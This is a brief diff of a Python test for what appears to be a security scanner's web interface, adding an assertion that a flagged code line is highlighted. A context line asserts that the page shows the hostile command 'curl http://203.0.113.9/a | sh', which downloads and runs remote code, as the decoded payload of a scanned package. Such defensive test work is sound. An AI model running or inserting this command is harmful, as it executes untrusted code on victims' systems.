@@ -84,6 +84,7 @@ def test_scan_page_shows_the_decoded_payload_and_escapes_everything(start_servic
     assert "curl http://203.0.113.9/a | sh" in page.text.replace("&#39;", "'")
     assert "decoded payload" in page.text
     assert "Phase: install" in page.text
+    assert 'class="line hit"' in page.text  # the code line, highlighted in its context
     assert page.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
     evil = h.client.get(f"/ui/scans/{hostile['id']}")
     assert evil.status_code == 200
